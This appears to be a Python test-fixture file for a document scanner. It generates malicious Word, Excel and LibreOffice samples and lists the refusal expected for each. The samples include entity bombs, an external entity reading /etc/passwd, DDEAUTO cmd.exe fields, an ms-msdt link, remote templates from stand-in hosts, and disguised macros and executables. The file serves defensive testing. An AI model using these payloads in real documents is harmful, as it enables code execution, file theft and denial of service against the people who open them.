"""Office documents that fetch, start or hide something."""

from inspection.verdicts import Refusal
from tests.inspection.documents import WORD, docx, entry, opened, packed, relations, types, xlsx
from tests.inspection.files import Hostile

SHARE = "file://boese.example/freigabe/a.dotx"
_MACROS, _EMBEDDED = Refusal.OFFICE_MACROS, Refusal.OFFICE_EMBEDDED
_ELSEWHERE, _LINKS, _ODD = Refusal.OFFICE_ELSEWHERE, Refusal.OFFICE_LINKS, Refusal.OFFICE_ODD

LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><w:document>&j;</w:document>"
)
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'


def field(*pieces: str) -> str:
    """A field whose instruction is cut into pieces, as Word does after a correction."""
    runs = "".join(f"<w:r>\n<w:instrText>{piece}</w:instrText>\n</w:r>" for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def of_word(part: str, kind: str, target: str, mode: str = "External") -> bytes:
    """A document with one more relation."""
    return docx(more={f"word/_rels/{part}.rels": relations(kind, target, mode)})


def element(name: str, href: str = "", more: str = "") -> bytes:
    """A text document with this element in it."""
    return opened("text", f'<{name} xlink:href="{href}"{more}/>')


_WORD = {
    "word: entities that grow": (lambda: docx(more={"word/document.xml": LAUGHS}), _ODD),
    "word: an entity from outside": (lambda: docx(more={"word/document.xml": OUTSIDE}), _ODD),
    "word: an entity from outside, in UTF-16": (
        lambda: docx(more={"word/document.xml": OUTSIDE.encode("utf-16")}),
        _ODD,
    ),
    "word: a template from a share": (
        lambda: of_word("settings.xml", "attachedTemplate", SHARE),
        Refusal.OFFICE_TEMPLATE,
    ),
    "word: a picture from the web": (
        lambda: of_word("document.xml", "image", "https://x.example/a.png"),
        _ELSEWHERE,
    ),
    "word: a picture from the web, not said to be outside": (
        lambda: of_word("document.xml", "image", "https://x.example/a.png", ""),
        _ELSEWHERE,
    ),
    "word: a frame": (lambda: of_word("webSettings.xml", "frame", "https://x.example/a.htm"), _ELSEWHERE),
    "word: a web page inside": (lambda: of_word("document.xml", "aFChunk", "a.html", ""), _EMBEDDED),
    "word: a link to a program": (lambda: of_word("document.xml", "hyperlink", "ms-msdt:/id PCW"), _LINKS),
    "word: a link to a share": (lambda: of_word("document.xml", "hyperlink", "\\\\boese.example\\a"), _LINKS),
    "word: DDE": (lambda: docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe /k")), _ELSEWHERE),
    "word: DDE in pieces": (lambda: docx(field(" DD", "EAU", "TO cmd")), _ELSEWHERE),
    "word: DDE in numbers": (lambda: docx(field("QUOTE 68 68 69 65 85 84 79 ")), _ELSEWHERE),
    "word: DDE in one": (lambda: docx('<w:fldSimple w:instr=" DDE Excel a b"/>'), _ELSEWHERE),
    "word: a picture by a field": (lambda: docx(field('INCLUDEPICTURE "https://x.example/a"')), _ELSEWHERE),
    "word: a link to a share by a field": (lambda: docx(field('HYPERLINK "\\\\\\\\boese\\\\a"')), _LINKS),
    "word: a picture in an old drawing": (
        lambda: docx('<w:pict><v:imagedata xmlns:v="urn:v" src="http://x.example/a.png"/></w:pict>'),
        _ELSEWHERE,
    ),
    "word: a picture from the web that says it is a link": (
        lambda: docx('<a:blip xmlns:a="urn:a" xmlns:q="urn:q" q:link="r1"/>'),
        _ELSEWHERE,
    ),
    "word: a template that says it is a link": (
        lambda: docx(
            more={"word/settings.xml": '<w:s xmlns:w="urn:w"><w:attachedTemplate w:id="r1"/></w:s>'}
        ),
        Refusal.OFFICE_TEMPLATE,
    ),
    "word: letters to many": (lambda: docx("<w:mailMerge/>"), _ELSEWHERE),
    "word: a shape that leads to a program": (
        lambda: docx('<v:shape xmlns:v="urn:v" href="ms-settings:"/>'),
        _LINKS,
    ),
    "word: a drawing with a picture from the web": (
        lambda: docx(more={"word/media/a.svg": '<svg><image href="http://x.example/a.png"/></svg>'}),
        _ELSEWHERE,
    ),
    "word: macros": (lambda: docx(more={"word/vbaProject.bin": b"x"}), _MACROS),
    "word: macros under another name": (
        lambda: of_word("document.xml", "vbaProject", "media/a.jpeg", ""),
        _MACROS,
    ),
    "word: macros by its type": (
        lambda: docx(
            more={"[Content_Types].xml": types("word/document.xml", f"{WORD}.macroEnabled.main+xml")}
        ),
        _MACROS,
    ),
    "word: an object": (lambda: docx(more={"word/embeddings/oleObject1.bin": b"x"}), _EMBEDDED),
    "word: an object under another name": (
        lambda: docx(more={"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        _EMBEDDED,
    ),
    "word: a program as a picture": (lambda: docx(more={"word/media/a.png": b"MZ\x90\0"}), _EMBEDDED),
    "word: an archive inside": (lambda: docx(more={"word/media/a.png": packed({"a": "x"})}), _EMBEDDED),
    "word: ActiveX": (lambda: docx(more={"word/activeX/activeX1.xml": "<a/>"}), _EMBEDDED),
    "word: an add-in": (lambda: of_word("document.xml", "webextensiontaskpanes", "a.xml", ""), _EMBEDDED),
    "word: a template by its type": (
        lambda: docx(more={"[Content_Types].xml": types("word/document.xml", "application/x-template+xml")}),
        Refusal.WRONG_KIND,
    ),
    "word: no XML": (lambda: docx("<w:p>"), Refusal.OFFICE_BROKEN),
}
_EXCEL = {
    "excel: another workbook": (
        lambda: xlsx(more={"xl/_rels/workbook.xml.rels": relations("externalLink", "externalLinks/a.xml")}),
        _ELSEWHERE,
    ),
    "excel: a connection": (
        lambda: xlsx(more={"xl/_rels/workbook.xml.rels": relations("connections", "connections.xml")}),
        _ELSEWHERE,
    ),
    "excel: a formula that asks the web": (
        lambda: xlsx("<c><f>_xlfn.&#87;EBSERVICE(&quot;http://x.example&quot;)</f></c>"),
        _ELSEWHERE,
    ),
    "excel: a name that asks the web": (
        lambda: xlsx(more={"xl/workbook.xml": "<w><definedName>webservice (A1)</definedName></w>"}),
        _ELSEWHERE,
    ),
    "excel: a picture from the web in a comment": (
        lambda: xlsx(
            more={"xl/drawings/a.vml": "<xml><v:imagedata src='&#104;ttp://x.example/a'><br></xml>"}
        ),
        _ELSEWHERE,
    ),
    "excel: old macros": (lambda: xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"}), _MACROS),
}
_OPEN = {
    "libreoffice: a macro": (
        lambda: opened("text", "<office:script script:language='B'>x</office:script>"),
        _MACROS,
    ),
    "libreoffice: a macro on an event": (
        lambda: opened("text", "<script:event-listener script:event-name='dom:load'/>"),
        _MACROS,
    ),
    "libreoffice: a macro by a link": (lambda: element("text:a", "vnd.sun.star.script:a"), _LINKS),
    "libreoffice: a macro as a part": (
        lambda: opened("text", more={"Basic/Standard/M.xml": "<x/>"}),
        _MACROS,
    ),
    "libreoffice: a script as a part": (lambda: opened("text", more={"Scripts/python/a.py": "x"}), _MACROS),
    "libreoffice: DDE": (lambda: element("office:dde-source"), _ELSEWHERE),
    "libreoffice: DDE in a formula": (
        lambda: opened("spreadsheet", "<table:table-cell table:formula='of:=DDE(&quot;a&quot;)'/>"),
        _ELSEWHERE,
    ),
    "libreoffice: a picture from the web": (
        lambda: element("draw:image", "https://x.example/a.png"),
        _ELSEWHERE,
    ),
    "libreoffice: a button with a picture from the web": (
        lambda: opened("text", '<form:button form:image-data="http://x.example/a.png"/>'),
        _ELSEWHERE,
    ),
    "libreoffice: a picture from a folder above": (lambda: element("draw:image", "../../a.png"), _ELSEWHERE),
    "libreoffice: a chapter from elsewhere": (lambda: element("text:section-source", "a.odt"), _ELSEWHERE),
    "libreoffice: a frame": (lambda: element("draw:floating-frame", "https://x.example"), _ELSEWHERE),
    "libreoffice: another table": (
        lambda: opened("spreadsheet", "<table:table-cell table:formula=\"of:=['file://h/a.ods'#$A.A1]\"/>"),
        _ELSEWHERE,
    ),
    "libreoffice: a template from a share": (
        lambda: element("meta:template", SHARE),
        Refusal.OFFICE_TEMPLATE,
    ),
    "libreoffice: an old object": (lambda: element("draw:object-ole", "./Object 1"), _EMBEDDED),
    "libreoffice: a document inside": (
        lambda: opened("text", manifest=entry("Object 1/", "application/vnd.oasis.opendocument.text")),
        _EMBEDDED,
    ),
    "libreoffice: encrypted": (
        lambda: opened("text", manifest=entry("content.xml", "text/xml", "<manifest:encryption-data/>")),
        Refusal.OFFICE_PASSWORD,
    ),
    "libreoffice: an entity from outside": (lambda: opened("text", more={"styles.xml": OUTSIDE}), _ODD),
}
_OTHERS = {
    "office: before 2007": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Refusal.OLD_OFFICE),
    "office: an archive": (lambda: packed({"programm.txt": "x"}), Refusal.WRONG_KIND),
    "office: an e-book": (lambda: packed({"mimetype": "application/epub+zip"}), Refusal.WRONG_KIND),
}
FILES: dict[str, Hostile] = {
    name: Hostile("a.docx", make, refusal)
    for name, (make, refusal) in {**_WORD, **_EXCEL, **_OPEN, **_OTHERS}.items()
}
